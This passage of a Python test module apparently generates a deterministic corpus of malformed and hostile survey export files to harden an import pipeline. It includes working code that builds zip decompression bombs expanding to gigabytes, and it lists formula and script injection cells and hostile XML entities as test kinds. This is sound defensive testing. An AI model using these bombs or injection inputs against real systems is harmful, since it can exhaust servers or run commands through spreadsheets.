"""The hostile corpus: well over 1,000 malformed or hostile survey exports, generated (never stored)
from the sample exports in data/samples/.

    for spec in specs():          # cheap: names, kinds and expectations only
        file = spec.build()       # the bytes, made on demand
    for file in generate(): ...   # every file, lazily, in a fixed order

Everything is deterministic (seeded): the same names, kinds and bytes on every run. Files are
built one at a time and in memory; the decompression bombs are assembled from one compressed
block repeated, so a workbook that expands to gigabytes costs milliseconds and a few MB here.

Some files carry an `Expect`: what must hold for one respondent (the "target" row the variant
changed) if the import stores anything of theirs, e.g. a row whose safety answers were blank is
never stored with a safety answer of 0, and a row shifted by an unquoted separator is never stored
with a safety item at a neighbour's value.
"""

from __future__ import annotations

import bz2
import codecs
import csv
import datetime as dt
import functools
import gzip
import io
import lzma
import random
import re
import struct
import tomllib
import zlib
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from types import EllipsisType
from typing import TypeVar
from xml.sax.saxutils import escape

ROOT = Path(__file__).resolve().parents[2]
SAMPLES_DIR = ROOT / "data" / "samples"
CHECKIN = ROOT / "analytics" / "instruments" / "files" / "checkin.toml"
SEED = 20261120

KINDS: dict[str, str] = {
    "truncated": "a sample cut at one of many byte offsets",
    "encoding": "UTF-16 LE/BE with and without BOM, UTF-32, cp1252, latin-1, bad or mixed UTF-8",
    "nul": "NUL bytes in the header, in cells, at either end, throughout",
    "separator": "; tab | space instead of the sample's separator, mixed, or nothing quoted",
    "quoting": "unclosed or stray quotes, CR-only or mixed line endings, huge quoted cells",
    "shifted_row": "an unquoted separator early in a row shifts its cells (or a lost one)",
    "safety_blank": "safety answers blank, whitespace, 'N/A', or cut off by a short row",
    "safety_shifted": "safety answers shifted by one or two columns, or moved into extra columns",
    "row_shape": "rows shorter or longer than the header, a header shorter or longer than rows",
    "header": "duplicate, blank, reserved, repeated, multi-line or huge headers; 'sep=' lines",
    "respondent": "respondent cells in odd case or spacing, homoglyphs, display names, two ids",
    "duplicate": "rows or whole exports repeated; one respondent twice in the same second",
    "markup": "formula and markup cells (=HYPERLINK, +cmd, @SUM, <script>, [a](x), $\\LaTeX$)",
    "number": "extreme numbers in answer cells (1e308, -0, NaN, inf, 400 digits, other digits)",
    "date": "extreme dates (0000, 0099, 1850, 9999, two-digit years, GMT+99, Feb 30, serials)",
    "wide": "10,000 columns and more",
    "many_rows": "many rows, millions of blank lines, files at and over the size limit",
    "empty": "empty, whitespace only, BOM only, header only, a workbook without cells",
    "xlsx_dimension": "huge declared dimensions (ref=A1:XFD1048576, a single cell at XFD1048576)",
    "xlsx_bomb": "decompression bombs: workbook parts that expand to hundreds of MB or to GB",
    "xlsx_xml": "hostile XML in workbook parts (entities, invalid characters, bad references)",
    "not_workbook": "zip archives that are not workbooks, broken zips, other archive formats",
    "xls": "old .xls (OLE2) magic and other spreadsheet and binary formats",
    "random": "random bytes, random text and CSV-shaped noise",
    "mutation": "random byte flips, insertions and deletions in a sample",
}


@dataclass(frozen=True)
class Expect:
    """What must hold for one respondent (an email or client code) after the file is imported:
    with `stored=False` nothing of theirs is stored; with `safety`, every response of theirs that
    is stored holds exactly these safety answers (None: not answered, stored as NULL)."""

    respondent: str
    safety: Mapping[str, float | None] | None = None
    stored: bool | None = None


@dataclass(frozen=True)
class HostileFile:
    """One generated file: a unique name (with the extension a user would upload), a kind
    (a key of KINDS) and its bytes."""

    name: str
    kind: str
    data: bytes
    expect: Expect | None = None


@dataclass(frozen=True)
class Spec:
    """A file not yet built: `build()` makes its bytes."""

    name: str
    kind: str
    make: Callable[[], bytes] = field(repr=False, compare=False)
    expect: Expect | None = None

    def build(self) -> HostileFile:
        """The file's bytes, made now."""
        return HostileFile(self.name, self.kind, self.make(), self.expect)


# --- The check-in questionnaire and the samples ---------------------------------------------

INSTRUMENT = tomllib.loads(CHECKIN.read_text(encoding="utf-8"))
ITEMS: list[dict[str, str]] = INSTRUMENT["items"]
CODES = [i["code"] for i in ITEMS]
SAFETY = [i["code"] for i in ITEMS if i.get("kind") == "safety"]
TEXTS = [i["code"] for i in ITEMS if i.get("kind") == "text"]
SAFETY_LABELS: list[str] = INSTRUMENT["formats"]["past_week"]["labels"]  # Never, Once, More...
AGREEMENT_LABELS: list[str] = INSTRUMENT["formats"]["agreement"]["labels"]


def _norm(text: str) -> str:
    """A header as a question's wording: numbering ("3. ", "Q3 - ") and full stop dropped."""
    text = re.sub(r"^(?:\d+\.\s+|Q\d+\s+-\s+)", "", text.strip())
    return text.rstrip(".").strip().lower()


_BY_TEXT = {_norm(i["text"]): i["code"] for i in ITEMS}
_DATE_HEADERS = {
    "Timestamp",
    "Start time",
    "Completion time",
    "StartDate",
    "EndDate",
    "RecordedDate",
    "checkin_timestamp",
    "Start Date (UTC)",
    "Submit Date (UTC)",
    "completed_at",
}
_WHO_HEADERS = ("Email Address", "Email", "email", "RecipientEmail", "client_code", "respondent")

# Per sample: (data-row index of the target row, its respondent, other data rows of the same
# respondent, dropped when the target must be the respondent's only row).
_TARGETS: dict[str, tuple[int, str, tuple[int, ...]]] = {
    "google_forms.csv": (0, "d001.a@example.org", (2,)),
    "microsoft_forms.xlsx": (0, "d004.a@example.org", (4,)),
    "qualtrics.csv": (0, "d006.a@example.org", (3,)),
    "redcap.csv": (1, "D-008A", (2,)),
    "typeform.csv": (0, "d010.a@example.org", (4,)),
    "generic_wide.csv": (4, "D-001A", ()),
    "generic_long.csv": (0, "d002.a@example.org", ()),  # long: every row of this respondent
}
SAMPLE_NAMES = tuple(_TARGETS)

Grid = list[list[object]]
T = TypeVar("T")


@dataclass(frozen=True)
class Sample:
    """A sample export as a grid of cells (header rows first) and where things are in it."""

    name: str
    data: bytes
    rows: tuple[tuple[object, ...], ...]
    header_rows: int
    delimiter: str
    bom: bool
    items: Mapping[str, int]  # item code -> column (empty for the long layout)
    dates: tuple[int, ...]  # columns holding a date or time
    who: int  # the respondent column
    target: int  # data-row index
    respondent: str
    others: tuple[int, ...]

    @property
    def stem(self) -> str:
        return self.name.rsplit(".", 1)[0]

    @property
    def ext(self) -> str:
        return "." + self.name.rsplit(".", 1)[1]

    @property
    def is_xlsx(self) -> bool:
        return self.name.endswith(".xlsx")

    @property
    def is_long(self) -> bool:
        return not self.items

    @property
    def labels(self) -> bool:
        """Answers written as labels ("Never") rather than numbers."""
        return self.stem in {"google_forms", "microsoft_forms", "generic_long"}

    def grid(self) -> Grid:
        """A fresh, mutable copy of the rows."""
        return [list(r) for r in self.rows]


@functools.cache
def sample(name: str) -> Sample:
    """One sample export, parsed (cached)."""
    data = (SAMPLES_DIR / name).read_bytes()
    rows: list[tuple[object, ...]]
    if name.endswith(".xlsx"):
        from openpyxl import load_workbook

        book = load_workbook(io.BytesIO(data), read_only=True, data_only=True)
        sheet = book.worksheets[0]
        rows = [tuple(r) for r in sheet.iter_rows(values_only=True)]
        book.close()
        delimiter, bom = ",", False
    else:
        bom = data.startswith(codecs.BOM_UTF8)
        text = data.decode("utf-8-sig")
        delimiter = ";" if name == "generic_wide.csv" else ","
        rows = [tuple(r) for r in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)]
    header_rows = 3 if name == "qualtrics.csv" else 1
    items: dict[str, int] = {}
    dates: list[int] = []
    who = 0
    for header in rows[:header_rows]:
        for col, cell in enumerate(header):
            if not isinstance(cell, str):
                continue
            code = (
                cell.strip().upper() if cell.strip().upper() in CODES else _BY_TEXT.get(_norm(cell))
            )
            if code and code not in items:
                items[code] = col
            if cell in _DATE_HEADERS and col not in dates:
                dates.append(col)
    titles = [str(c) for c in rows[0]]
    who = next(titles.index(h) for h in _WHO_HEADERS if h in titles)
    if name == "generic_long.csv":
        items = {}
    target, respondent, others = _TARGETS[name]
    return Sample(
        name,
        data,
        tuple(rows),
        header_rows,
        delimiter,
        bom,
        items,
        tuple(sorted(dates)),
        who,
        target,
        respondent,
        others,
    )


def samples() -> list[Sample]:
    """Every sample, in a fixed order."""
    return [sample(n) for n in SAMPLE_NAMES]


# --- Writing grids back out -------------------------------------------------------------------


def _text(cell: object) -> str:
    if cell is None:
        return ""
    if isinstance(cell, dt.datetime):
        return cell.strftime("%Y-%m-%d %H:%M:%S")
    if isinstance(cell, Raw):
        return cell.text
    return str(cell)


def csv_text(rows: Sequence[Sequence[object]], delimiter: str = ",", eol: str = "\r\n") -> str:
    """Rows as CSV text, quoted where needed."""
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=delimiter, lineterminator=eol).writerows(
        [[_text(c) for c in r] for r in rows]
    )
    return buffer.getvalue()


def raw_text(rows: Sequence[Sequence[object]], delimiter: str = ",", eol: str = "\r\n") -> str:
    """Rows joined with the separator and nothing quoted (what a careless script writes)."""
    return "".join(delimiter.join(_text(c) for c in r) + eol for r in rows)


def emit(s: Sample, rows: Sequence[Sequence[object]], *, delimiter: str | None = None) -> bytes:
    """A grid in the sample's own format (CSV with its separator and BOM, or .xlsx)."""
    if s.is_xlsx:
        return xlsx(rows)
    data = csv_text(rows, delimiter or s.delimiter).encode("utf-8", "surrogatepass")
    return (codecs.BOM_UTF8 if s.bom else b"") + data


def _safety_value(cell: object) -> float | None:
    """A safety answer cell as the number it stands for (labels included); None when blank."""
    text = _text(cell).strip()
    if not text:
        return None
    if text in SAFETY_LABELS:
        return float(SAFETY_LABELS.index(text))
    return float(text.replace(",", "."))


def _safety_cell(s: Sample, value: int) -> object:
    """How the sample writes a safety answer."""
    return SAFETY_LABELS[value] if s.labels else str(value)


def _lowest(s: Sample) -> object:
    return AGREEMENT_LABELS[0] if s.labels else "0"


def targeted(s: Sample) -> tuple[Grid, int]:
    """The sample's rows without the target respondent's other rows, and the absolute index of
    the target row (for the long layout: of its first row)."""
    grid = s.grid()
    drop = {s.header_rows + i for i in s.others}
    kept = [r for n, r in enumerate(grid) if n not in drop]
    at = s.header_rows + s.target - sum(1 for d in drop if d < s.header_rows + s.target)
    return kept, at


def _long_rows(s: Sample, grid: Grid) -> list[int]:
    """Rows (absolute) of the long layout that belong to the target respondent."""
    return [n for n, r in enumerate(grid) if n >= 1 and _text(r[0]).lower() == s.respondent]


def true_safety(s: Sample, grid: Grid, at: int) -> dict[str, float | None]:
    """The target row's safety answers as written."""
    if s.is_long:
        found: dict[str, float | None] = dict.fromkeys(SAFETY)
        for n in _long_rows(s, grid):
            if grid[n][2] in SAFETY:
                found[str(grid[n][2])] = _safety_value(grid[n][3])
        return found
    return {code: _safety_value(grid[at][s.items[code]]) for code in SAFETY}


def expect_safety(s: Sample, safety: Mapping[str, float | None]) -> Expect:
    return Expect(s.respondent, safety=dict(safety))


# --- Zip archives and workbooks, written by hand (bombs need control over every byte) ---------

_DOS_TIME, _DOS_DATE = 12 << 11, ((2026 - 1980) << 9) | (11 << 5) | 18
_FINAL_BLOCK = b"\x03\x00"  # raw deflate: an empty final block


@dataclass(frozen=True)
class Part:
    """One zip entry as stored: payload (already compressed for method 8), CRC-32 and size of
    what it expands to; `declared` overrides the size written in the headers (a lying archive)."""

    name: str
    payload: bytes
    crc: int
    size: int
    method: int = 8
    flags: int = 0
    declared: int | None = None


def _deflate_raw(data: bytes, level: int = 6) -> bytes:
    c = zlib.compressobj(level, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush()


def _segment(data: bytes) -> bytes:
    """Raw deflate blocks for `data`, ending on a full flush: self-contained, not final, so
    segments can be concatenated (and repeated) into one valid stream."""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush(zlib.Z_FULL_FLUSH)


def part(name: str, data: bytes, *, stored: bool = False) -> Part:
    """A zip entry holding `data`."""
    if stored:
        return Part(name, data, zlib.crc32(data), len(data), method=0)
    return Part(name, _deflate_raw(data), zlib.crc32(data), len(data))


def _gf2_times(matrix: list[int], vector: int) -> int:
    total, n = 0, 0
    while vector:
        if vector & 1:
            total ^= matrix[n]
        vector >>= 1
        n += 1
    return total


def _gf2_square(matrix: list[int]) -> list[int]:
    return [_gf2_times(matrix, matrix[n]) for n in range(32)]


def crc32_combine(crc1: int, crc2: int, len2: int) -> int:
    """CRC-32 of A+B from CRC(A), CRC(B) and len(B) (zlib's crc32_combine)."""
    if len2 <= 0:
        return crc1
    odd = [0xEDB88320] + [1 << n for n in range(31)]
    even = _gf2_square(odd)
    odd = _gf2_square(even)
    while True:
        even = _gf2_square(odd)
        if len2 & 1:
            crc1 = _gf2_times(even, crc1)
        len2 >>= 1
        if not len2:
            break
        odd = _gf2_square(even)
        if len2 & 1:
            crc1 = _gf2_times(odd, crc1)
        len2 >>= 1
        if not len2:
            break
    return crc1 ^ crc2


def _crc_repeated(block: bytes, times: int) -> int:
    """CRC-32 of `block * times` without building it."""
    crc, acc, acc_len = 0, zlib.crc32(block), len(block)
    while times:
        if times & 1:
            crc = crc32_combine(crc, acc, acc_len)
        acc = crc32_combine(acc, acc, acc_len)
        acc_len *= 2
        times >>= 1
    return crc


def bomb_part(name: str, head: bytes, block: bytes, times: int, tail: bytes) -> Part:
    """An entry expanding to head + block * times + tail, compressed ~1000:1 in milliseconds."""
    payload = _segment(head) + _segment(block) * times + _segment(tail) + _FINAL_BLOCK
    size = len(head) + len(block) * times + len(tail)
    crc = crc32_combine(zlib.crc32(head), _crc_repeated(block, times), len(block) * times)
    crc = crc32_combine(crc, zlib.crc32(tail), len(tail))
    return Part(name, payload, crc, size)


def zip_bytes(parts: Sequence[Part], *, comment: bytes = b"") -> bytes:
    """A zip archive of the given entries (no zip64: every size stays below 4 GiB)."""
    out, central = bytearray(), bytearray()
    for p in parts:
        name = p.name.encode("utf-8")
        size = p.size if p.declared is None else p.declared
        offset = len(out)
        out += struct.pack(
            "<IHHHHHIIIHH",
            0x04034B50,
            20,
            p.flags,
            p.method,
            _DOS_TIME,
            _DOS_DATE,
            p.crc,
            len(p.payload),
            size,
            len(name),
            0,
        )
        out += name + p.payload
        central += struct.pack(
            "<IHHHHHHIIIHHHHHII",
            0x02014B50,
            20,
            20,
            p.flags,
            p.method,
            _DOS_TIME,
            _DOS_DATE,
            p.crc,
            len(p.payload),
            size,
            len(name),
            0,
            0,
            0,
            0,
            0,
            offset,
        )
        central += name
    start = len(out)
    out += central
    out += struct.pack(
        "<IHHHHIIH", 0x06054B50, 0, 0, len(parts), len(parts), len(central), start, len(comment)
    )
    return bytes(out + comment)


_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PKG_REL = "http://schemas.openxmlformats.org/package/2006/relationships"
_CT = "application/vnd.openxmlformats-officedocument.spreadsheetml"


def content_types(sheets: int = 1) -> bytes:
    overrides = "".join(
        f'<Override PartName="/xl/worksheets/sheet{n}.xml" ContentType="{_CT}.worksheet+xml"/>'
        for n in range(1, sheets + 1)
    )
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
        'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/xl/workbook.xml" ContentType="{_CT}.sheet.main+xml"/>{overrides}'
        f'<Override PartName="/xl/styles.xml" ContentType="{_CT}.styles+xml"/>'
        f'<Override PartName="/xl/sharedStrings.xml" ContentType="{_CT}.sharedStrings+xml"/>'
        "</Types>"
    ).encode()


_ROOT_RELS = (
    f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="{_PKG_REL}">'
    f'<Relationship Id="rId1" Type="{_REL}/officeDocument" Target="xl/workbook.xml"/>'
    "</Relationships>"
).encode()
_STYLES = (
    f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><styleSheet xmlns="{_MAIN}">'
    '<fonts count="1"><font><sz val="11"/><name val="Calibri"/></font></fonts>'
    '<fills count="1"><fill><patternFill patternType="none"/></fill></fills>'
    '<borders count="1"><border><left/><right/><top/><bottom/><diagonal/></border></borders>'
    '<cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/></cellStyleXfs>'
    '<cellXfs count="2"><xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>'
    '<xf numFmtId="22" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/>'
    '</cellXfs><cellStyles count="1"><cellStyle name="Normal" xfId="0" builtinId="0"/>'
    "</cellStyles></styleSheet>"
).encode()


def workbook_xml(sheet_targets: Sequence[str]) -> tuple[bytes, bytes]:
    """xl/workbook.xml and its rels for sheets at the given targets (relative to xl/)."""
    sheets = "".join(
        f'<sheet name="Sheet{n}" sheetId="{n}" r:id="rId{n + 2}"/>'
        for n in range(1, len(sheet_targets) + 1)
    )
    book = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        f'<workbook xmlns="{_MAIN}" xmlns:r="{_REL}"><sheets>{sheets}</sheets></workbook>'
    ).encode()
    rels = "".join(
        f'<Relationship Id="rId{n + 2}" Type="{_REL}/worksheet" Target="{t}"/>'
        for n, t in enumerate(sheet_targets, 1)
    )
    book_rels = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="{_PKG_REL}">'
        f'<Relationship Id="rId1" Type="{_REL}/styles" Target="styles.xml"/>'
        f'<Relationship Id="rId2" Type="{_REL}/sharedStrings" Target="sharedStrings.xml"/>'
        f"{rels}</Relationships>"
    ).encode()
    return book, book_rels


def shared_strings(strings: Sequence[str]) -> bytes:
    items = "".join(f'<si><t xml:space="preserve">{_xml_text(s)}</t></si>' for s in strings)
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        f'<sst xmlns="{_MAIN}" count="{len(strings)}" uniqueCount="{len(strings)}">{items}</sst>'
    ).encode("utf-8", "surrogatepass")


def sheet_xml(body: str, *, dimension: str | None = None, head: str = "") -> bytes:
    """A worksheet around the given <sheetData> body."""
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        f'{head}<worksheet xmlns="{_MAIN}" xmlns:r="{_REL}">{dim}'
        f"<sheetData>{body}</sheetData></worksheet>"
    ).encode("utf-8", "surrogatepass")


def package(
    sheets: Sequence[Part | bytes],
    *,
    strings: Part | bytes = b"",
    extra: Sequence[Part] = (),
    targets: Sequence[str] | None = None,
    styles: Part | bytes = _STYLES,
) -> bytes:
    """An .xlsx package: skeleton parts plus the given worksheets (bytes are compressed here)."""
    targets = targets or [f"worksheets/sheet{n}.xml" for n in range(1, len(sheets) + 1)]
    book, book_rels = workbook_xml(targets)
    parts = [
        part("[Content_Types].xml", content_types(len(sheets))),
        part("_rels/.rels", _ROOT_RELS),
        part("xl/workbook.xml", book),
        part("xl/_rels/workbook.xml.rels", book_rels),
        styles if isinstance(styles, Part) else part("xl/styles.xml", styles),
        strings
        if isinstance(strings, Part)
        else part("xl/sharedStrings.xml", strings or shared_strings([])),
    ]
    for n, sheet in enumerate(sheets, 1):
        parts.append(
            sheet if isinstance(sheet, Part) else part(f"xl/worksheets/sheet{n}.xml", sheet)
        )
    return zip_bytes([*parts, *extra])


@dataclass(frozen=True)
class Raw:
    """A workbook cell written as given (attributes and inner XML of <c>); `text` is what it
    holds when the same grid is written as CSV."""

    attrs: str
    inner: str
    text: str = ""


_XML_BAD = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")


def _xml_text(text: str) -> str:
    """Text for an XML element; control characters as Excel writes them (_x0001_)."""
    return _XML_BAD.sub(lambda m: f"_x{ord(m.group()):04X}_", escape(text))


def column_name(n: int) -> str:
    """0 -> A, 25 -> Z, 26 -> AA, 16383 -> XFD."""
    name = ""
    n += 1
    while n:
        n, rest = divmod(n - 1, 26)
        name = chr(65 + rest) + name
    return name


_EXCEL_EPOCH = dt.datetime(1899, 12, 30)


def _cell_xml(ref: str, value: object, strings: dict[str, int]) -> str:
    if value is None or value == "":
        return ""
    if isinstance(value, Raw):
        return f'<c r="{ref}" {value.attrs}>{value.inner}</c>'
    if isinstance(value, bool):
        return f'<c r="{ref}" t="b"><v>{int(value)}</v></c>'
    if isinstance(value, int | float):
        return f'<c r="{ref}"><v>{value!r}</v></c>'
    if isinstance(value, dt.datetime):
        serial = (value - _EXCEL_EPOCH) / dt.timedelta(days=1)
        return f'<c r="{ref}" s="1"><v>{serial!r}</v></c>'
    index = strings.setdefault(str(value), len(strings))
    return f'<c r="{ref}" t="s"><v>{index}</v></c>'


def xlsx(rows: Sequence[Sequence[object]], *, dimension: str | None = None) -> bytes:
    """A one-sheet workbook holding the grid (strings shared, datetimes as date cells)."""
    strings: dict[str, int] = {}
    body = "".join(
        f'<row r="{r}">'
        + "".join(_cell_xml(f"{column_name(c)}{r}", v, strings) for c, v in enumerate(row))
        + "</row>"
        for r, row in enumerate(rows, 1)
    )
    return package([sheet_xml(body, dimension=dimension)], strings=shared_strings(list(strings)))


# --- The kinds ---------------------------------------------------------------------------------

SpecIter = Iterator["_Draft"]


@dataclass(frozen=True)
class _Draft:
    """A file of a kind generator before `specs` names it after its kind."""

    stem: str
    variant: str
    make: Callable[[], bytes]
    ext: str
    expect: Expect | None


def _file(
    s: Sample | None,
    variant: str,
    make: Callable[[], bytes],
    *,
    ext: str | None = None,
    expect: Expect | None = None,
) -> _Draft:
    """A file made from sample `s` (or from nothing), named `<kind>__<stem>__<variant><ext>`."""
    suffix = ext if ext is not None else (s.ext if s else ".csv")
    return _Draft(s.stem if s else "none", variant, make, suffix, expect)


def _const(data: bytes) -> Callable[[], bytes]:
    return lambda: data


def _grid_file(s: Sample, change: Callable[[Grid], Grid]) -> Callable[[], bytes]:
    """Build by applying `change` to a copy of the sample's grid, then writing it out."""

    def make() -> bytes:
        return emit(s, change(s.grid()))

    return make


def _target_file(s: Sample, change: Callable[[Grid, int], Grid]) -> Callable[[], bytes]:
    """Build by changing the target row (the only row of its respondent) of a copy."""

    def make() -> bytes:
        grid, at = targeted(s)
        return emit(s, change(grid, at))

    return make


def _truncated() -> SpecIter:
    rng = random.Random(SEED + 1)
    for s in samples():
        n = len(s.data)
        header_end = s.data.find(b"\n") + 1
        central = s.data.find(b"PK\x01\x02")
        fixed = {
            1,
            2,
            3,
            4,
            7,
            16,
            64,
            200,
            n // 3,
            n // 2,
            n - 1,
            n - 2,
            n - 7,
            header_end - 1,
            header_end,
            header_end + 1,
            central if central > 0 else n // 4,
            central + 20,
        }
        offsets = {o for o in fixed if 0 < o < n}
        while len(offsets) < 16:
            offsets.add(rng.randrange(1, n))
        for at in sorted(offsets):
            yield _file(s, f"at{at}", functools.partial(_cut, s.name, at))


def _cut(name: str, at: int) -> bytes:
    return sample(name).data[:at]


_ACCENTED = "Café – «naïve» “quotes” € ½ Øre ß"
_MIXED_SCRIPTS = "家族 👨‍👩‍👧 مرحبا Ελληνικά"


def _with_text(s: Sample, text: str) -> Grid:
    """The sample with `text` in a free-text (or, failing that, a bookkeeping) cell of a row."""
    grid = s.grid()
    at = s.header_rows + (s.target if not s.is_long else 0)
    column = s.items.get("TXT1", len(grid[at]) - 2 if not s.is_long else 3)
    if s.is_long:
        grid.append([s.respondent, grid[1][1], "TXT2", text])
    else:
        grid[at][column] = text
    return grid


def _encoded(s: Sample, how: str) -> bytes:
    text_rows = _with_text(s, _ACCENTED)
    sep = s.delimiter
    plain = csv_text(text_rows, sep)
    if how == "utf16_bom_tab":
        return csv_text(text_rows, "\t").encode("utf-16")
    if how == "utf16le_bom":
        return codecs.BOM_UTF16_LE + plain.encode("utf-16-le")
    if how == "utf16le_nobom":
        return plain.encode("utf-16-le")
    if how == "utf16be_bom":
        return codecs.BOM_UTF16_BE + plain.encode("utf-16-be")
    if how == "utf16be_nobom":
        return plain.encode("utf-16-be")
    if how == "utf16_odd_length":
        return codecs.BOM_UTF16_LE + plain.encode("utf-16-le")[:-1]
    if how == "utf16_lone_surrogate":
        return codecs.BOM_UTF16_LE + plain.replace(_ACCENTED, "x\ud800y").encode(
            "utf-16-le", "surrogatepass"
        )
    if how == "utf32_bom":
        return plain.encode("utf-32")
    if how == "cp1252":
        return plain.encode("cp1252", "replace")
    if how == "latin1":
        return csv_text(_with_text(s, "Åsa ÿ ß ¿ « » ©"), sep).encode("latin-1")
    if how == "invalid_utf8_cell":
        return plain.encode().replace(_ACCENTED.encode(), b"ab\xff\xfe\xc3(\xed\xa0\x80\xc0\xafcd")
    if how == "invalid_utf8_header":
        first = plain.encode()
        cut = first.find(sep.encode()) if sep.encode() in first else 1
        return first[:cut] + b"\x80\x81\xfe" + first[cut:]
    if how == "mixed_utf8_cp1252":
        lines = plain.split("\r\n")
        half = len(lines) // 2
        head = "\r\n".join(lines[:half]) + "\r\n"
        return head.replace(_ACCENTED, _MIXED_SCRIPTS).encode() + "\r\n".join(lines[half:]).encode(
            "cp1252", "replace"
        )
    if how == "utf8_bom_then_utf16":
        return codecs.BOM_UTF8 + plain.encode("utf-16-le")
    if how == "double_bom":
        return codecs.BOM_UTF8 * 2 + plain.encode()
    if how == "cjk_emoji":
        return csv_text(_with_text(s, _MIXED_SCRIPTS), sep).encode()
    if how == "gb18030":
        return csv_text(_with_text(s, "家族治疗"), sep).encode("gb18030")
    raise ValueError(how)


_ENCODINGS = (
    "utf16_bom_tab",
    "utf16le_bom",
    "utf16le_nobom",
    "utf16be_bom",
    "utf16be_nobom",
    "utf16_odd_length",
    "utf16_lone_surrogate",
    "utf32_bom",
    "cp1252",
    "latin1",
    "invalid_utf8_cell",
    "invalid_utf8_header",
    "mixed_utf8_cp1252",
    "utf8_bom_then_utf16",
    "double_bom",
    "cjk_emoji",
    "gb18030",
)


def _encoding() -> SpecIter:
    for s in samples():
        if s.is_xlsx:
            continue
        for how in _ENCODINGS:
            yield _file(s, how, functools.partial(_encoded, s, how))


def _nul_file(s: Sample, how: str) -> bytes:
    data = s.data
    if how == "start":
        return b"\x00" + data
    if how == "end":
        return data + b"\x00"
    if how == "header":
        at = data.find(b",") if b"," in data[:200] else 10
        return data[:at] + b"\x00" + data[at:]
    if how == "cell":
        at = len(data) * 2 // 3
        return data[:at] + b"\x00" + data[at:]
    if how == "every_97":
        return b"".join(data[i : i + 97] + b"\x00" for i in range(0, len(data), 97))
    if how == "kilobyte_tail":
        return data + b"\x00" * 1024
    if how == "replaces_separators":
        if s.is_xlsx:
            return data.replace(b"PK\x01\x02", b"PK\x00\x02", 1)
        return data.replace(s.delimiter.encode(), b"\x00")
    raise ValueError(how)


def _nul() -> SpecIter:
    for s in samples():
        for how in (
            "start",
            "end",
            "header",
            "cell",
            "every_97",
            "kilobyte_tail",
            "replaces_separators",
        ):
            yield _file(s, how, functools.partial(_nul_file, s, how))
    xl = sample("microsoft_forms.xlsx")
    nul_cell = Raw('t="inlineStr"', "<is><t>a\x00b</t></is>", "a\x00b")
    yield _file(xl, "raw_nul_in_sheet_xml", _grid_file(xl, lambda g: _set(g, 1, 4, nul_cell)))


# Samples that get every case of the kinds with many cases (markup, number, date); the others
# get an even spread of a few, which keeps `make fuzz` to a few minutes.
_EVERY_CASE = {"google_forms", "generic_wide", "typeform"}


def _spread(cases: Sequence[T], s: Sample, few: int) -> list[T]:
    """Every case for the main samples, `few` of them spread evenly for the others."""
    if s.stem in _EVERY_CASE:
        return list(cases)
    return list(cases[:: max(1, len(cases) // few)])[:few]


def _set(grid: Grid, row: int, col: int, value: object) -> Grid:
    while len(grid[row]) <= col:
        grid[row].append("")
    grid[row][col] = value
    return grid


def _setter(col: int, value: object) -> Callable[[Grid, int], Grid]:
    """A change that puts `value` in column `col` of the target row."""
    return lambda grid, at: _set(grid, at, col, value)


def _set_last_header(grid: Grid, *, value: object) -> Grid:
    return _set(grid, 0, len(grid[0]) - 1, value)


def _head(grid: Grid, *, rows: int) -> Grid:
    return grid[:rows]


def _separated(s: Sample, how: str) -> bytes:
    grid = s.grid()
    bom = codecs.BOM_UTF8 if s.bom else b""
    if how in {"semicolon", "tab", "pipe", "space"}:
        sep = {"semicolon": ";", "tab": "\t", "pipe": "|", "space": " "}[how]
        return bom + csv_text(grid, sep).encode()
    if how == "comma":
        return bom + csv_text(grid, ",").encode()
    if how == "mixed_rows":
        lines = [csv_text([r], ";" if n % 2 else ",") for n, r in enumerate(grid)]
        return bom + "".join(lines).encode()
    if how == "header_other":
        other = ";" if s.delimiter == "," else ","
        return bom + (csv_text(grid[:1], other) + csv_text(grid[1:], s.delimiter)).encode()
    if how == "unquoted":
        return bom + raw_text(grid, s.delimiter).encode()
    if how == "unquoted_comma":
        return bom + raw_text(grid, ",").encode()
    raise ValueError(how)


def _separator() -> SpecIter:
    for s in samples():
        if s.is_xlsx:
            continue
        hows = ["semicolon", "tab", "pipe", "space", "mixed_rows", "header_other", "unquoted"]
        hows.append("unquoted_comma" if s.delimiter != "," else "comma")
        for how in hows:
            yield _file(s, how, functools.partial(_separated, s, how))


def _quoted(s: Sample, how: str) -> bytes:
    grid = s.grid()
    sep = s.delimiter
    text = csv_text(grid, sep)
    bom = codecs.BOM_UTF8 if s.bom else b""
    lines = text.split("\r\n")
    row = s.header_rows + 1
    if how == "cr_only":
        out = text.replace("\r\n", "\r")
    elif how == "lf_only":
        out = text.replace("\r\n", "\n")
    elif how == "mixed_eol":
        out = "".join(line + ("\r\n", "\n", "\r")[n % 3] for n, line in enumerate(lines))
    elif how == "unclosed_quote_early":
        lines[row] = '"' + lines[row]
        out = "\r\n".join(lines)
    elif how == "unclosed_quote_last":
        out = text.rstrip("\r\n") + sep + '"never closed\r\n'
    elif how == "stray_quote_mid_cell":
        cells = lines[row].split(sep)
        cells[1] = cells[1][:3] + '"' + cells[1][3:]
        lines[row] = sep.join(cells)
        out = "\r\n".join(lines)
    elif how == "backslash_escaped":
        out = text.replace('""', '\\"')
